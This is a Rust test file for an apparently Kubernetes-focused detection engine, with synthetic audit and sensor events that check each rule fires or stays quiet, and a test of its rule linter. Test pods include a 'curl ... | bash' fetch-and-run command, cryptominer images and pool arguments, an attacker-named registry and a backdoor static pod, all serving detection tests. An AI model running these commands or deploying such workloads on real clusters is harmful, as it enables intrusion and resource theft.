//! Every built-in rule against a positive and a negative case built from realistic audit events
//! (stage ResponseComplete, userInfo, sourceIPs, objectRef, request/response bodies as
//! kube-apiserver logs them), plus the rule-file linter.

#![allow(clippy::unwrap_used, clippy::panic)]

use palisade_detect::audit::parse_event;
use palisade_detect::engine::{Engine, EngineConfig};
use palisade_detect::event::{Entity, Event, FileInfo, NetworkInfo, ProcessInfo, SensorEvent, SensorKind, Stage};
use palisade_detect::rules::{validate, DiagLevel, RuleSet, Source};
use palisade_detect::simulate::{
    binding, container, cronjob, pod, pod_spec, role, service, workload, EventBuilder as B,
};
use serde_json::{json, Value};
use std::collections::BTreeSet;

const T0: i64 = 1_717_236_000_000_000;

fn rules() -> RuleSet {
    RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"))
}

fn fired(rs: &RuleSet, events: &[String]) -> BTreeSet<String> {
    let mut eng = Engine::new(rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
    let mut out = Vec::new();
    for e in events {
        let ev = parse_event(e).unwrap_or_else(|err| panic!("{err}: {e}"));
        eng.process(&Event::Audit(ev), &mut out);
    }
    assert_eq!(eng.stats().cel_errors, 0, "CEL errors on {events:?}");
    out.into_iter().map(|a| a.rule.id).collect()
}

/// A human user from outside the cluster.
fn user(verb: &str, res: &str) -> B {
    B::new(verb, res).user("mallory@corp.example", &["developers"]).ip("203.0.113.50").at(T0)
}

/// A workload's service account, in the cluster.
fn app(verb: &str, res: &str) -> B {
    B::new(verb, res).sa("shop", "web").ip("10.244.1.5").ua("web/v1 client-go/v0.30.2").at(T0)
}

/// A kube-controller-manager controller.
fn ctl(verb: &str, res: &str, sa: &str) -> B {
    B::new(verb, res)
        .sa("kube-system", sa)
        .ip("10.0.0.10")
        .ua(&format!(
            "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:{sa}"
        ))
        .at(T0)
}

fn kubelet(verb: &str, res: &str) -> B {
    B::new(verb, res).node("node-1").ip("10.0.0.11").ua("kubelet/v1.30.2 (linux/amd64) kubernetes/3968350").at(T0)
}

fn plain_pod(ns: &str, name: &str, image: &str) -> Value {
    pod(ns, name, json!({"app": name}), pod_spec(vec![container(name, image)], "default"))
}

fn pod_with(ns: &str, name: &str, f: impl FnOnce(&mut Value)) -> Value {
    let mut p = plain_pod(ns, name, "docker.io/library/nginx:1.27");
    f(&mut p);
    p
}

fn create_pod(b: B, p: Value) -> String {
    let ns = p["metadata"]["namespace"].as_str().unwrap_or("").to_string();
    let name = p["metadata"]["name"].as_str().unwrap_or("").to_string();
    b.ns(&ns).name(&name).req(p.clone()).resp(p).build()
}

struct Case {
    id: &'static str,
    pos: Vec<String>,
    neg: Vec<String>,
}

fn many(n: usize, f: impl Fn(usize) -> String) -> Vec<String> {
    (0..n).map(f).collect()
}

fn cases() -> Vec<Case> {
    let privileged = |p: &mut Value| p["spec"]["containers"][0]["securityContext"] = json!({"privileged": true});
    vec![
        Case {
            id: "PAL-KA-001",
            pos: vec![user("create", "pods").ns("prod").name("api-0").sub("exec").query("command=sh&container=api&stdin=true&tty=true").code(101).build()],
            neg: vec![
                user("create", "pods").ns("prod").name("api-0").sub("exec").code(403).build(),
                ctl("create", "pods", "ttl-controller").ns("prod").name("api-0").sub("exec").code(101).build(),
                user("get", "pods").ns("prod").name("api-0").sub("log").build(),
            ],
        },
        Case {
            id: "PAL-KA-002",
            pos: vec![user("create", "pods").ns("prod").name("api-0").sub("attach").code(101).build()],
            neg: vec![user("create", "pods").ns("prod").name("api-0").sub("attach").code(403).build()],
        },
        Case {
            id: "PAL-KA-003",
            pos: vec![user("patch", "pods")
                .ns("prod")
                .name("api-0")
                .sub("ephemeralcontainers")
                .req(pod_with("prod", "api-0", |p| p["spec"]["ephemeralContainers"] = json!([{"name": "debugger", "image": "busybox:1.36", "targetContainerName": "api"}])))
                .build()],
            neg: vec![user("patch", "pods").ns("prod").name("api-0").sub("ephemeralcontainers").code(403).build()],
        },
        Case {
            id: "PAL-KA-004",
            pos: vec![user("create", "nodes").name("node-2").sub("proxy").uri("/api/v1/nodes/node-2/proxy/run/prod/api-0/api?cmd=id").build()],
            neg: vec![
                B::new("get", "nodes").sa("monitoring", "prometheus").ip("10.244.3.17").name("node-2").sub("proxy").uri("/api/v1/nodes/node-2/proxy/metrics").at(T0).build(),
                user("get", "nodes").name("node-2").sub("status").build(),
            ],
        },
        Case {
            id: "PAL-KA-005",
            pos: vec![create_pod(user("create", "pods"), plain_pod("prod", "worker", "xmrig/xmrig:latest"))],
            neg: vec![
                create_pod(user("create", "pods"), plain_pod("prod", "worker", "ghcr.io/corp/worker:1.0")),
                create_pod(ctl("create", "pods", "replicaset-controller"), plain_pod("prod", "worker-abcde", "xmrig/xmrig:latest")),
            ],
        },
        Case {
            id: "PAL-KA-006",
            pos: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "sync", |p| p["spec"]["containers"][0]["args"] = json!(["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])),
            )],
            neg: vec![create_pod(user("create", "pods"), pod_with("prod", "sync", |p| p["spec"]["containers"][0]["args"] = json!(["--port", "3333"])))],
        },
        Case {
            id: "PAL-KA-007",
            pos: vec![user("create", "deployments")
                .ns("prod")
                .name("tools")
                .req(workload("Deployment", "prod", "tools", pod_spec(vec![container("tools", "registry.attacker.example:5000/tools:1")], "default")))
                .build()],
            neg: vec![
                user("create", "deployments")
                    .ns("prod")
                    .name("tools")
                    .req(workload("Deployment", "prod", "tools", pod_spec(vec![container("tools", "corp.azurecr.io/tools:1")], "default")))
                    .build(),
                user("create", "deployments").ns("prod").name("tools").req(workload("Deployment", "prod", "tools", pod_spec(vec![container("tools", "nginx")], "default"))).build(),
            ],
        },
        Case {
            id: "PAL-KA-008",
            pos: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "job", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | bash"])),
            )],
            neg: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "job", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl -fsSL http://backend/health > /tmp/ok"])),
            )],
        },
        Case {
            id: "PAL-KA-010",
            pos: vec![create_pod(user("create", "pods"), pod_with("prod", "p", privileged))],
            neg: vec![
                create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"privileged": false}))),
                create_pod(ctl("create", "pods", "daemon-set-controller"), pod_with("kube-system", "kube-proxy-x", privileged)),
            ],
        },
        Case {
            id: "PAL-KA-011",
            pos: vec![user("create", "daemonsets")
                .ns("prod")
                .name("agent")
                .req(workload("DaemonSet", "prod", "agent", {
                    let mut s = pod_spec(vec![container("agent", "nginx")], "default");
                    s["volumes"] = json!([{"name": "sock", "hostPath": {"path": "/var/run/docker.sock", "type": "Socket"}}]);
                    s
                }))
                .build()],
            neg: vec![user("create", "daemonsets")
                .ns("prod")
                .name("agent")
                .req(workload("DaemonSet", "prod", "agent", {
                    let mut s = pod_spec(vec![container("agent", "nginx")], "default");
                    s["volumes"] = json!([{"name": "data", "hostPath": {"path": "/mnt/data/agent"}}, {"name": "cfg", "configMap": {"name": "agent"}}]);
                    s
                }))
                .build()],
        },
        Case {
            id: "PAL-KA-012",
            pos: vec![create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["hostPID"] = json!(true)))],
            neg: vec![create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["hostPID"] = json!(false)))],
        },
        Case {
            id: "PAL-KA-013",
            pos: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"capabilities": {"add": ["SYS_ADMIN"]}})),
            )],
            neg: vec![create_pod(
                user("create", "pods"),
                pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}})),
            )],
        },
        Case {
            id: "PAL-KA-014",
            pos: vec![user("create", "deployments").ns("kube-system").name("metrics-helper").req(workload("Deployment", "kube-system", "metrics-helper", pod_spec(vec![container("m", "nginx")], "default"))).build()],
            neg: vec![
                ctl("create", "replicasets", "deployment-controller").ns("kube-system").name("coredns-5dd5756b68").build(),
                user("create", "deployments").ns("prod").name("metrics-helper").build(),
                user("create", "deployments").ns("kube-system").name("metrics-helper").code(403).build(),
            ],
        },
        Case {
            id: "PAL-KA-015",
            pos: vec![user("create", "cronjobs").ns("prod").name("backup").req(cronjob("prod", "backup", "0 3 * * *", pod_spec(vec![container("b", "alpine")], "default"))).build()],
            neg: vec![
                ctl("update", "cronjobs", "cronjob-controller").ns("prod").name("backup").sub("status").build(),
                ctl("update", "cronjobs", "cronjob-controller").ns("prod").name("backup").build(),
            ],
        },
        Case {
            id: "PAL-KA-016",
            pos: vec![user("create", "daemonsets").ns("prod").name("agent").req(workload("DaemonSet", "prod", "agent", pod_spec(vec![container("a", "nginx")], "default"))).build()],
            neg: vec![ctl("update", "daemonsets", "daemon-set-controller").ns("kube-system").name("kube-proxy").sub("status").build()],
        },
        Case {
            id: "PAL-KA-017",
            pos: vec![ctl("create", "pods", "replicaset-controller")
                .ns("prod")
                .name("api-6d4-x")
                .req(plain_pod("prod", "api-6d4-x", "ghcr.io/corp/api:1"))
                .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"x","webhook":"x.example.com","patch":[{"op":"add","path":"/spec/containers/-","value":{"name":"s","image":"x"}}],"patchType":"JSONPatch"}"#)
                .build()],
            neg: vec![
                ctl("create", "pods", "replicaset-controller")
                    .ns("prod")
                    .name("api-6d4-x")
                    .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"istio-sidecar-injector","webhook":"sidecar-injector.istio.io","patch":[{"op":"add","path":"/spec/containers/-","value":{"name":"istio-proxy"}}],"patchType":"JSONPatch"}"#)
                    .build(),
                ctl("create", "pods", "replicaset-controller")
                    .ns("prod")
                    .name("api-6d4-x")
                    .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"defaults","webhook":"defaults.example.com","patch":[{"op":"add","path":"/metadata/labels/team","value":"a"}],"patchType":"JSONPatch"}"#)
                    .build(),
            ],
        },
        Case {
            id: "PAL-KA-018",
            pos: vec![kubelet("create", "pods")
                .ns("kube-system")
                .name("backdoor-node-1")
                .req(pod_with("kube-system", "backdoor-node-1", |p| p["metadata"]["annotations"] = json!({"kubernetes.io/config.mirror": "abc", "kubernetes.io/config.source": "file"})))
                .build()],
            neg: vec![kubelet("create", "pods")
                .ns("kube-system")
                .name("kube-apiserver-node-1")
                .req(pod_with("kube-system", "kube-apiserver-node-1", |p| p["metadata"]["annotations"] = json!({"kubernetes.io/config.mirror": "abc", "kubernetes.io/config.source": "file"})))
                .build()],
        },
        Case {
            id: "PAL-KA-019",
            pos: vec![user("patch", "namespaces").name("prod").req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}})).build()],
            neg: vec![user("patch", "namespaces").name("prod").req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"restricted"}}})).build()],
        },
        Case {
            id: "PAL-KA-030",
            pos: vec![user("create", "clusterrolebindings")
                .name("mallory-admin")
                .req(binding("ClusterRoleBinding", "", "mallory-admin", "ClusterRole", "cluster-admin", json!([{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"mallory@corp.example"}])))
                .build()],
            neg: vec![user("create", "rolebindings")
                .ns("prod")
                .name("dev-view")
                .req(binding("RoleBinding", "prod", "dev-view", "ClusterRole", "view", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"developers"}])))
                .build()],
        },
        Case {
            id: "PAL-KA-031",
            pos: vec![user("create", "clusterroles").name("ops").req(role("ClusterRole", "", "ops", json!([{"apiGroups":[""],"resources":["*"],"verbs":["get"]}]))).build()],
            neg: vec![
                user("create", "clusterroles").name("ops").req(role("ClusterRole", "", "ops", json!([{"apiGroups":["apps"],"resources":["deployments"],"verbs":["get","list"]}]))).build(),
                ctl("update", "clusterroles", "clusterrole-aggregation-controller").name("admin").req(role("ClusterRole", "", "admin", json!([{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]))).build(),
            ],
        },
        Case {
            id: "PAL-KA-032",
            pos: vec![user("create", "roles").ns("prod").name("debug").req(role("Role", "prod", "debug", json!([{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]))).build()],
            neg: vec![user("create", "roles").ns("prod").name("logs").req(role("Role", "prod", "logs", json!([{"apiGroups":[""],"resources":["pods/log","pods"],"verbs":["get"]}]))).build()],
        },
        Case {
            id: "PAL-KA-033",
            pos: vec![user("create", "clusterroles").name("imp").req(role("ClusterRole", "", "imp", json!([{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}]))).build()],
            neg: vec![user("create", "clusterroles").name("read").req(role("ClusterRole", "", "read", json!([{"apiGroups":[""],"resources":["users"],"verbs":["get"]}]))).build()],
        },
        Case {
            id: "PAL-KA-034",
            pos: vec![user("create", "clusterrolebindings")
                .name("anon")
                .req(binding("ClusterRoleBinding", "", "anon", "ClusterRole", "view", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}])))
                .build()],
            neg: vec![user("update", "clusterrolebindings")
                .name("system:public-info-viewer")
                .req(binding("ClusterRoleBinding", "", "system:public-info-viewer", "ClusterRole", "system:public-info-viewer", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}])))
                .build()],
        },
        Case {
            id: "PAL-KA-035",
            pos: vec![B::new("list", "secrets").anonymous().ns("kube-system").ip("198.51.100.3").ua("curl/8.5.0").at(T0).build()],
            neg: vec![
                B::new("get", "").anonymous().uri("/readyz").ip("10.0.0.2").ua("kube-probe/1.30").at(T0).build(),
                B::new("get", "").anonymous().uri("/version?timeout=32s").ip("10.0.0.2").at(T0).build(),
                B::new("list", "secrets").anonymous().ns("kube-system").ip("198.51.100.3").code(403).at(T0).build(),
            ],
        },
        Case {
            id: "PAL-KA-036",
            pos: vec![user("create", "serviceaccounts").ns("kube-system").name("deployment-controller").sub("token").build()],
            neg: vec![kubelet("create", "serviceaccounts").ns("prod").name("api").sub("token").build()],
        },
        Case {
            id: "PAL-KA-037",
            pos: vec![user("create", "secrets")
                .ns("prod")
                .name("ci-token")
                .req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"ci-token","annotations":{"kubernetes.io/service-account.name":"ci"}},"type":"kubernetes.io/service-account-token"}))
                .build()],
            neg: vec![user("create", "secrets").ns("prod").name("tls").req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"tls"},"type":"kubernetes.io/tls"})).build()],
        },
        Case {
            id: "PAL-KA-038",
            pos: vec![user("update", "certificatesigningrequests").name("csr-abc").sub("approval").build()],
            neg: vec![ctl("update", "certificatesigningrequests", "certificate-controller").name("csr-abc").sub("approval").build()],
        },
        Case {
            id: "PAL-KA-039",
            pos: vec![user("create", "certificatesigningrequests").name("csr-x").req(json!({"kind":"CertificateSigningRequest","metadata":{"name":"csr-x"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}})).build()],
            neg: vec![kubelet("create", "certificatesigningrequests").name("csr-y").req(json!({"kind":"CertificateSigningRequest","metadata":{"name":"csr-y"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client-kubelet"}})).build()],
        },
        Case {
            id: "PAL-KA-040",
            pos: vec![B::new("list", "pods").sa("shop", "web").ip("198.51.100.23").at(T0).build()],
            neg: vec![
                app("list", "pods").build(),
                B::new("list", "pods").sa("shop", "web").ip("172.20.3.4").at(T0).build(),
                B::new("list", "pods").sa("shop", "web").ip("fd00::12").at(T0).build(),
            ],
        },
        Case {
            id: "PAL-KA-041",
            pos: many(10, |i| app("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 2_000_000).build()),
            neg: [
                many(10, |i| app("get", "secrets").ns("shop").name("web-db").at(T0 + i as i64 * 2_000_000).build()),
                many(10, |i| app("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 30_000_000).build()),
                many(10, |i| kubelet("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 1_000_000).build()),
            ]
            .concat(),
        },
        Case {
            id: "PAL-KA-042",
            pos: vec![user("list", "secrets").build()],
            neg: vec![user("list", "secrets").ns("prod").build(), ctl("list", "secrets", "namespace-controller").build()],
        },
        Case {
            id: "PAL-KA-043",
            pos: vec![user("get", "secrets").ns("kube-system").name("x").impersonate("kubernetes-admin", &["system:masters"]).build()],
            neg: vec![user("get", "pods").ns("prod").impersonate("bob@corp.example", &["developers"]).build()],
        },
        Case {
            id: "PAL-KA-044",
            pos: vec![app("create", "selfsubjectrulesreviews").req(json!({"kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}})).build()],
            neg: vec![user("create", "selfsubjectaccessreviews").req(json!({"kind":"SelfSubjectAccessReview","spec":{}})).build()],
        },
        Case {
            id: "PAL-KA-045",
            pos: many(20, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(403).at(T0 + i as i64 * 1_000_000).build()),
            neg: [
                many(19, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(403).at(T0 + i as i64 * 1_000_000).build()),
                many(20, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(404).at(T0 + 100_000_000 + i as i64 * 1_000_000).build()),
            ]
            .concat(),
        },
        Case {
            id: "PAL-KA-046",
            pos: vec![user("create", "serviceaccounts").ns("kube-system").name("helper").build()],
            neg: vec![user("create", "serviceaccounts").ns("prod").name("helper").build(), ctl("create", "serviceaccounts", "serviceaccount-controller").ns("kube-system").name("default").build()],
        },
        Case {
            id: "PAL-KA-050",
            pos: vec![user("create", "mutatingwebhookconfigurations").name("evil").build()],
            neg: vec![user("list", "mutatingwebhookconfigurations").build()],
        },
        Case {
            id: "PAL-KA-051",
            pos: vec![user("delete", "validatingwebhookconfigurations").name("gatekeeper").build()],
            neg: vec![user("get", "validatingwebhookconfigurations").name("gatekeeper").build()],
        },
        Case {
            id: "PAL-KA-052",
            pos: vec![user("update", "configmaps").ns("kube-system").name("coredns").req(json!({"kind":"ConfigMap","data":{"Corefile":".:53 { forward . 198.51.100.1 }"}})).build()],
            neg: vec![user("update", "configmaps").ns("prod").name("coredns").build(), user("get", "configmaps").ns("kube-system").name("coredns").build()],
        },
        Case {
            id: "PAL-KA-053",
            pos: vec![user("deletecollection", "events").ns("prod").build()],
            neg: vec![kubelet("create", "events").ns("prod").name("x.1").build(), user("list", "events").ns("prod").build()],
        },
        Case {
            id: "PAL-KA-054",
            pos: vec![user("create", "services").ns("kubeflow").name("ml-pipeline-ui").req(service("kubeflow", "ml-pipeline-ui", "LoadBalancer", json!({"app": "ml-pipeline-ui"}), 80)).build()],
            neg: vec![
                user("create", "services").ns("kubeflow").name("ml-pipeline-ui").req(service("kubeflow", "ml-pipeline-ui", "ClusterIP", json!({"app": "ml-pipeline-ui"}), 80)).build(),
                user("create", "services").ns("shop").name("web").req(service("shop", "web", "LoadBalancer", json!({"app": "web"}), 443)).build(),
            ],
        },
        Case {
            id: "PAL-KA-055",
            pos: vec![user("create", "services").ns("shop").name("np").req(service("shop", "np", "NodePort", json!({"app": "web"}), 80)).build()],
            neg: vec![user("create", "services").ns("shop").name("web").req(service("shop", "web", "ClusterIP", json!({"app": "web"}), 80)).build()],
        },
        Case {
            id: "PAL-KA-056",
            pos: many(20, |i| user("delete", "deployments").ns("prod").name(&format!("d{i}")).at(T0 + i as i64 * 1_000_000).build()),
            neg: [
                many(20, |i| ctl("delete", "pods", "namespace-controller").ns("old").name(&format!("p{i}")).at(T0 + i as i64 * 100_000).build()),
                many(20, |i| user("delete", "pods").ns("prod").name(&format!("p{i}")).at(T0 + i as i64 * 10_000_000).build()),
            ]
            .concat(),
        },
        Case {
            id: "PAL-KA-057",
            pos: vec![user("list", "pods").ua("kubectl-who-can/v0.4.0").build()],
            neg: vec![user("list", "pods").ua("kubectl/v1.30.2 (linux/amd64) kubernetes/3968350").build()],
        },
        Case {
            id: "PAL-KA-058",
            pos: vec![user("delete", "daemonsets").ns("falco").name("falco").build()],
            neg: vec![user("delete", "daemonsets").ns("prod").name("fluent-bit").build(), user("patch", "daemonsets").ns("falco").name("falco").req(json!({"spec":{"template":{"metadata":{"labels":{"v":"2"}}}}})).build()],
        },
        Case {
            id: "PAL-KA-059",
            pos: vec![user("delete", "namespaces").name("prod").build()],
            neg: vec![ctl("delete", "namespaces", "namespace-controller").name("prod").build()],
        },
        Case {
            id: "PAL-KA-060",
            pos: vec![user("delete", "nodes").name("node-3").build()],
            neg: vec![ctl("delete", "nodes", "node-controller").name("node-3").build()],
        },
    ]
}

#[test]
fn every_audit_rule_has_a_positive_and_a_negative_case() {
    let rs = rules();
    let cs = cases();
    let ids: BTreeSet<&str> = cs.iter().map(|c| c.id).collect();
    for r in rs.rules().iter().filter(|r| r.source == Source::K8sAudit) {
        assert!(ids.contains(r.id.as_str()), "no test case for {}", r.id);
    }
    for c in &cs {
        let pos = fired(&rs, &c.pos);
        assert!(pos.contains(c.id), "{}: positive case did not fire (fired {pos:?})", c.id);
        for e in &c.neg {
            let neg = fired(&rs, std::slice::from_ref(e));
            assert!(!neg.contains(c.id), "{}: negative case fired: {e}", c.id);
        }
        // stateful negatives: the whole sequence
        let neg = fired(&rs, &c.neg);
        assert!(!neg.contains(c.id), "{}: negative sequence fired", c.id);
    }
}

#[test]
fn non_final_stages_are_not_evaluated_by_default() {
    let rs = rules();
    let e = user("create", "pods").ns("prod").name("api-0").sub("exec").code(101).stage(Stage::RequestReceived).build();
    assert!(fired(&rs, &[e]).is_empty());
}

fn sensor(kind: SensorKind, exe: &str, args: &[&str]) -> SensorEvent {
    SensorEvent {
        kind,
        time_us: T0,
        node: "node-1".into(),
        entity: Entity {
            cluster: "c".into(),
            namespace: "prod".into(),
            pod: "api-0".into(),
            container: "api".into(),
            image: "ghcr.io/corp/api:1".into(),
            container_id: "0123456789ab".into(),
        },
        process: ProcessInfo {
            pid: 4242,
            ppid: 4200,
            exe: exe.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            parent_exe: "/usr/bin/containerd-shim".into(),
            uid: 0,
            ..Default::default()
        },
        file: None,
        network: None,
        syscall: None,
    }
}

#[test]
fn sensor_rules() {
    let rs = rules();
    let run = |ev: SensorEvent| -> BTreeSet<String> {
        let mut eng = Engine::new(&rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
        let mut out = Vec::new();
        eng.process(&Event::Sensor(ev), &mut out);
        assert_eq!(eng.stats().cel_errors, 0);
        out.into_iter().map(|a| a.rule.id).collect()
    };
    assert!(run(sensor(SensorKind::Process, "/bin/bash", &["bash"])).contains("PAL-SEN-001"));
    assert!(!run(sensor(SensorKind::Process, "/usr/bin/python3", &["python3", "app.py"])).contains("PAL-SEN-001"));
    assert!(run(sensor(SensorKind::Process, "/tmp/.x/xmrig", &["xmrig"])).contains("PAL-SEN-002"));
    assert!(run(sensor(SensorKind::Process, "/tmp/kworker", &["kworker", "-o", "stratum+tcp://p:3333"]))
        .contains("PAL-SEN-002"));
    assert!(!run(sensor(SensorKind::Process, "/usr/bin/nginx", &["nginx"])).contains("PAL-SEN-002"));
    let mut w = sensor(SensorKind::File, "/bin/sh", &["sh"]);
    w.file = Some(FileInfo { path: "/host/etc/kubernetes/manifests/x.yaml".into(), op: "write".into(), ..Default::default() });
    assert!(run(w.clone()).contains("PAL-SEN-003"));
    w.file = Some(FileInfo { path: "/tmp/x".into(), op: "write".into(), ..Default::default() });
    assert!(!run(w).contains("PAL-SEN-003"));
    let mut n = sensor(SensorKind::Network, "/tmp/kworker", &["kworker"]);
    n.network = Some(NetworkInfo {
        direction: "connect".into(),
        protocol: "tcp".into(),
        src_ip: "10.244.1.5".into(),
        src_port: 40000,
        dst_ip: "198.51.100.9".into(),
        dst_port: 3333,
        ..Default::default()
    });
    assert!(run(n.clone()).contains("PAL-SEN-004"));
    if let Some(net) = n.network.as_mut() {
        net.dst_port = 443;
    }
    assert!(!run(n).contains("PAL-SEN-004"));
}

#[test]
fn users_can_add_override_and_disable_rules_and_extend_lists() {
    let mut rs = rules();
    let user_file = r#"
lists:
  trusted_registries:
    items: ["registry.attacker.example:5000"]
    append: true
rules:
  - id: PAL-KA-001
    name: Exec into production pods
    description: Only production namespaces.
    severity: high
    attack: {tactics: [TA0002], techniques: [T1609]}
    match: {verbs: [create], resources: [pods/exec], success: true}
    condition: ka.target.namespace.startsWith("prod")
    output: "%ka.user.name exec'd into %ka.target.name"
    remediation: [Ask them.]
  - id: CORP-001
    name: ConfigMap read by a stranger
    description: A user outside the team read the payments settings.
    severity: low
    attack: {tactics: [TA0007], techniques: [T1613]}
    match: {verbs: [get], resources: [configmaps], namespaces: [payments]}
    condition: '!("payments" in ka.user.groups)'
    exceptions:
      - name: auditors
        fields: [ka.user.name]
        values: [auditor@corp.example]
    output: "%ka.user.name read %ka.target.name"
    remediation: [Check why.]
disable: [PAL-KA-055]
"#;
    let diags = rs.add_file(user_file, "corp.yaml").unwrap_or_else(|e| panic!("{e}"));
    assert!(diags.iter().any(|d| d.level == DiagLevel::Note && d.message.contains("overrides")), "{diags:?}");
    let fires = |rs: &RuleSet, e: String| fired(rs, &[e]);
    // override: exec outside prod no longer alerts, and severity is high
    assert!(
        !fires(&rs, user("create", "pods").ns("dev").name("x").sub("exec").code(101).build()).contains("PAL-KA-001")
    );
    assert!(
        fires(&rs, user("create", "pods").ns("prod-eu").name("x").sub("exec").code(101).build()).contains("PAL-KA-001")
    );
    assert_eq!(rs.get("PAL-KA-001").map(|r| r.severity.as_str()), Some("high"));
    // new rule with an exception
    assert!(fires(&rs, user("get", "configmaps").ns("payments").name("settings").build()).contains("CORP-001"));
    assert!(!fires(
        &rs,
        B::new("get", "configmaps").user("auditor@corp.example", &[]).ns("payments").name("settings").at(T0).build()
    )
    .contains("CORP-001"));
    assert!(!fires(
        &rs,
        B::new("get", "configmaps")
            .user("pat@corp.example", &["payments"])
            .ns("payments")
            .name("settings")
            .at(T0)
            .build()
    )
    .contains("CORP-001"));
    // disabled
    assert!(!fires(
        &rs,
        user("create", "services").ns("shop").name("np").req(service("shop", "np", "NodePort", json!({}), 80)).build()
    )
    .contains("PAL-KA-055"));
    // extended list: the registry is trusted now
    let tools = user("create", "deployments")
        .ns("prod")
        .name("tools")
        .req(workload(
            "Deployment",
            "prod",
            "tools",
            pod_spec(vec![container("tools", "registry.attacker.example:5000/tools:1")], "default"),
        ))
        .build();
    assert!(!fires(&rs, tools).contains("PAL-KA-007"));
    // configuration can replace a list too
    rs.set_list("cluster_cidrs", vec!["10.0.0.0/8".into()]);
    assert!(fires(&rs, B::new("list", "pods").sa("shop", "web").ip("172.20.3.4").at(T0).build()).contains("PAL-KA-040"));
}

#[test]
fn linter_reports_problems_with_line_numbers() {
    let bad = r#"rules:
  - id: X-1
    name: Bad rule
    description: Many problems.
    severity: severe
    attack: {tactics: [TA0002], techniques: [T9999, T1611]}
    match: {verbs: [create], resources: [pods], subresouces: [exec]}
    condition: ka.verb == "create" &&
    output: "%ka.user.nme did it"
    remediation: [Fix it.]
    colour: blue
  - id: X-2
    name: Unknown identifier
    description: d
    severity: low
    attack: {tactics: [TA0007], techniques: [T1613]}
    match: {verbs: [get], resources: [pods]}
    condition: |
      ka.verb == "get" &&
        ka.user.nam == "x" && undefined_list.size() > 0
    output: ok
    remediation: [x]
  - id: X-2
    name: Duplicate
    description: d
    severity: low
    attack: {tactics: [TA0007], techniques: [T1613]}
    match: {verbs: [get], resources: ["@no_such_list"]}
    condition: "true"
    output: ok
    remediation: [x]
  - id: X-3
    name: Missing fields
"#;
    let d = validate(bad, "bad.yaml");
    let find = |needle: &str| {
        d.iter().find(|x| x.message.contains(needle)).unwrap_or_else(|| panic!("no {needle:?} in {d:#?}"))
    };
    assert_eq!(find("unknown severity").line, 5);
    let t = find("T9999");
    assert_eq!((t.line, t.column), (6, 46));
    assert_eq!(find("T1611").line, 6, "technique not under the rule's tactics");
    let s = find("subresouces");
    assert_eq!(s.line, 7);
    assert!(s.message.contains("did you mean `subresources`"), "{}", s.message);
    let c = find("CEL syntax error");
    assert_eq!(c.line, 8, "{c:?}");
    assert!(c.column > 16, "{c:?}");
    assert_eq!(find("ka.user.nme").line, 9);
    assert_eq!(find("colour").line, 11);
    let n = find("`ka.user.nam`");
    assert_eq!((n.line, n.column), (20, 9), "{n:?}");
    assert_eq!(find("undefined_list").line, 20);
    assert_eq!(find("duplicate rule id").line, 23);
    assert!(find("missing required field").message.contains("description"));
    assert!(d.iter().all(|x| x.line > 0 && x.column > 0), "{d:#?}");
    // a clean file has no errors; YAML syntax errors have positions too
    assert!(!validate("rules: []\n", "ok.yaml").iter().any(|x| x.level == DiagLevel::Error));
    let y = validate("rules:\n  - id: [unclosed\n", "y.yaml");
    assert!(y[0].message.contains("YAML syntax"), "{y:?}");
    assert!(y[0].line >= 2);
    // the built-in files lint clean
    for (name, text) in palisade_detect::rules::BUILTIN_FILES {
        let d: Vec<_> =
            RuleSet::empty().validate_file(text, name).into_iter().filter(|x| x.level == DiagLevel::Error).collect();
        let _ = d; // built-ins depend on each other's lists: checked through RuleSet::builtin()
    }
    let _ = RuleSet::builtin().unwrap_or_else(|e| panic!("{e}"));
}

#[test]
fn first_seen_rules_learn_then_alert_on_new_keys() {
    let mut rs = rules();
    rs.add_file(
        r#"
rules:
  - id: CORP-010
    name: New client address for a service account
    description: A service account used from an address not seen during learning.
    severity: low
